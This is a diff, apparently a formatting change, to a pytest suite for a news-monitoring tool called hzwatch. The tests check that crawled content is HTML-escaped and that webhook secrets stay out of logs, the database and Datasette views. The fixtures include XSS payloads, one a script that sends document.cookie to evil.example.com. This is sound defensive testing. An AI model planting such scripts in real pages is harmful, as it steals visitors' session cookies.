@@ -4,6 +4,7 @@ Real parts only: a replica article carrying the payloads is crawled by `hzwatch 
 serves the result over HTTP, `hzwatch alerts test` and `hzwatch run` deliver to a real webhook on
 127.0.0.1 through a URL whose credentials live only in an environment variable.
 """
+
 from __future__ import annotations
 
 import json
@@ -16,7 +17,6 @@ from pathlib import Path
 from urllib.parse import quote
 
 import pytest
-
 from support_faults import REPO, crawl_argv, datasette, env, hz, init_db, integrity, query, remap_flags, run_hz
 from support_servers import WebhookReceiver
 
@@ -28,8 +28,11 @@ XSS_PARAS = [
     '<script>document.location="http://evil.example.com/?c="+document.cookie</script>下一步，杭州将持续深化改革。',
     "据介绍，今年以来各区县保障性住房项目陆续开工，配套学校、医院等公共服务设施同步规划建设。",
 ]
-RAW_PAYLOADS = ['<script>alert("hzwatch-xss")', '<img src=x onerror=alert("hzwatch-img")',
-                '<script>document.location="http://evil.example.com']
+RAW_PAYLOADS = [
+    '<script>alert("hzwatch-xss")',
+    '<img src=x onerror=alert("hzwatch-img")',
+    '<script>document.location="http://evil.example.com',
+]
 ESCAPED_MARK = "&lt;script&gt;"
 
 
@@ -119,9 +122,9 @@ def secret_hook(tmp_path):
     url = f"json://hzbot:{password}@127.0.0.1:{hook.port}/hook/{token}"
     subs = tmp_path / "subscriptions.yaml"
     subs.write_text(
-        "subscriptions:\n"
-        f"  - name: secret-hook\n    urls_env: [{ENV_NAME}]\n    mode: immediate\n    backfill: true\n",
-        encoding="utf-8")
+        f"subscriptions:\n  - name: secret-hook\n    urls_env: [{ENV_NAME}]\n    mode: immediate\n    backfill: true\n",
+        encoding="utf-8",
+    )
     yield hook, url, (password, token), subs
     hook.stop()
 
@@ -140,8 +143,9 @@ def test_alerts_test_never_prints_the_secret(secret_hook):
     assert not _leaks(ok.stdout + ok.stderr, parts), ok.stdout + ok.stderr
     # A failing endpoint: the error message must not quote the URL either.
     hook.down()
-    failed = run_hz("alerts", "test", "secret-hook", "--subscriptions", str(subs), extra_env={ENV_NAME: url},
-                    check=False)
+    failed = run_hz(
+        "alerts", "test", "secret-hook", "--subscriptions", str(subs), extra_env={ENV_NAME: url}, check=False
+    )
     assert failed.returncode != 0
     assert ENV_NAME in failed.stdout + failed.stderr, "the failure does not name the env var"
     assert not _leaks(failed.stdout + failed.stderr, parts), failed.stdout + failed.stderr
@@ -156,17 +160,39 @@ def test_service_keeps_secrets_out_of_db_logs_and_datasette(secret_hook, tmp_pat
     db = tmp_path / "hzwatch.db"
     logs = tmp_path / "tmp"
     logs.mkdir()
-    argv = hz("run", "--db", str(db), "--subscriptions", str(subs), "--no-serve", "--fast", *remap_flags(srv),
-              "--sources", "hznews", "--every", "86400", "--dispatch-every", "1")
+    argv = hz(
+        "run",
+        "--db",
+        str(db),
+        "--subscriptions",
+        str(subs),
+        "--no-serve",
+        "--fast",
+        *remap_flags(srv),
+        "--sources",
+        "hznews",
+        "--every",
+        "86400",
+        "--dispatch-every",
+        "1",
+    )
     err_path = tmp_path / "run.stderr"
     with open(err_path, "wb") as err:
-        proc = subprocess.Popen(argv, cwd=REPO, env=env(**{ENV_NAME: url, "TMPDIR": str(logs)}),
-                                stdout=err, stderr=subprocess.STDOUT)
+        proc = subprocess.Popen(
+            argv, cwd=REPO, env=env(**{ENV_NAME: url, "TMPDIR": str(logs)}), stdout=err, stderr=subprocess.STDOUT
+        )
     try:
-        failed_attempt = _wait(lambda: db.exists() and query(
-            db, "SELECT COUNT(*) FROM outbox WHERE attempts > 0 AND last_error IS NOT NULL")[0][0], 120)
-        assert failed_attempt, "no failed delivery attempt was recorded while the endpoint was down:\n" \
+        failed_attempt = _wait(
+            lambda: (
+                db.exists()
+                and query(db, "SELECT COUNT(*) FROM outbox WHERE attempts > 0 AND last_error IS NOT NULL")[0][0]
+            ),
+            120,
+        )
+        assert failed_attempt, (
+            "no failed delivery attempt was recorded while the endpoint was down:\n"
             + err_path.read_text(errors="replace")[-2000:]
+        )
         hook.up()
         delivered = _wait(lambda: query(db, "SELECT COUNT(*) FROM outbox WHERE status = 'sent'")[0][0], 120)
         assert delivered, "no alert was delivered once the endpoint came back"
@@ -183,15 +209,20 @@ def test_service_keeps_secrets_out_of_db_logs_and_datasette(secret_hook, tmp_pat
     log_text = err_path.read_text(encoding="utf-8", errors="replace")
     assert not _leaks(log_text, parts), "secret in the service log: " + _context(log_text, parts)
     # The database file (with WAL and shm) and every log file the service wrote.
-    leaked_files = [str(p) for p in tmp_path.rglob("*") if p.is_file() and p != subs
-                    and _leaks(p.read_bytes(), parts)]
+    leaked_files = [str(p) for p in tmp_path.rglob("*") if p.is_file() and p != subs and _leaks(p.read_bytes(), parts)]
     assert not leaked_files, f"secret found in {leaked_files}"
 
     with datasette(db) as ds:
-        paths = ["/", f"/{db.stem}", f"/{db.stem}/outbox", f"/{db.stem}/outbox.json?_shape=array",
-                 f"/{db.stem}/subscriptions.json?_shape=array", f"/{db.stem}/runs.json?_shape=array"]
+        paths = [
+            "/",
+            f"/{db.stem}",
+            f"/{db.stem}/outbox",
+            f"/{db.stem}/outbox.json?_shape=array",
+            f"/{db.stem}/subscriptions.json?_shape=array",
+            f"/{db.stem}/runs.json?_shape=array",
+        ]
         metadata = json.loads(ds.get("/-/metadata.json")[1] or "{}")
-        queries = (metadata.get("databases", {}).get(db.stem, {}).get("queries") or {})
+        queries = metadata.get("databases", {}).get(db.stem, {}).get("queries") or {}
         paths += [f"/{db.stem}/{name}" for name in queries if re.search("alert|outbox|notif", name, re.I)]
         for path in paths:
             status, body = ds.get(path)
@@ -216,5 +247,5 @@ def _context(text: str, parts) -> str:
     for s in parts:
         i = text.find(s)
         if i >= 0:
-            return text[max(0, i - 200): i + 50]
+            return text[max(0, i - 200) : i + 50]
     return ""
